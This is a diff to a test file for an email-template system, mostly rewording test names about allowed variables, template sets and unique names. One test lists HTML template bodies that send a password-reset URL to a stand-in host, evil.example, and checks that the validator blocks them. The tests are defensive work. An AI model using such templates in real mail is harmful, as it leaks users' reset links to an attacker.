@@ -58,7 +58,7 @@ test("every built-in template contains only allowed variables", async () => {
   }
 });
 
-test("an admin saves a template: it is stored, and announced with old and new values", async () => {
+test("a saved template is stored and published with old and new values", async () => {
   const { body, status } = await save("Password reset", {
     subject: "A new password for {{business.name}}",
     description: "",
@@ -122,7 +122,7 @@ test.each([
   ["Customer invitation", "user.otp_code"],
   ["Password reset", "user.invite_url"],
   ["Staff reply", "ticket.verify_url"],
-])("%s may not hold %s, which belongs to another template", async (name, variable) => {
+])("%s may not contain %s, which belongs to another template", async (name, variable) => {
   const { status, problem } = await save(name, { body: `<p>{{${variable}}}</p>` });
   expect(status).toBe(400);
   expect(problem).toMatchObject({
@@ -133,11 +133,8 @@ test.each([
 
 test.each([
   ["a picture", '<img src="https://evil.example/p.png">{{user.reset_url}}'],
-  [
-    "a link that is only in part the secret",
-    '<a href="https://evil.example/?{{user.reset_url}}">x</a>',
-  ],
-])("a secret does not leave by %s", async (_, body) => {
+  ["a link that contains the secret", '<a href="https://evil.example/?{{user.reset_url}}">x</a>'],
+])("a secret cannot be leaked by %s", async (_, body) => {
   const { problem } = await save("Password reset", { body });
   expect(problem.fields?.body).toMatch(/carries a secret/);
 });
@@ -192,7 +189,7 @@ test("a sample is mailed to the caller only", async () => {
   ]);
 });
 
-test("a set is added as a copy of the default one, with what was changed in it", async () => {
+test("a set is added as a copy of the default one, including its changes", async () => {
   await save("Staff reply", { subject: "Our words" });
   const { status, body } = await (await desk.as("admin")).call(templateSets.add, {
     body: { name: "Spring" },
@@ -207,7 +204,7 @@ test("a set is added as a copy of the default one, with what was changed in it",
   expect(body.set.templates.some(({ id }) => ids.has(id))).toBe(false);
 });
 
-test("a name is taken once, whatever its case", async () => {
+test("a set name is unique, regardless of case", async () => {
   const admin = await desk.as("admin");
   const { status, problem } = await admin.call(templateSets.add, { body: { name: "DEFAULT" } });
   expect([status, problem.code, problem.message]).toEqual([
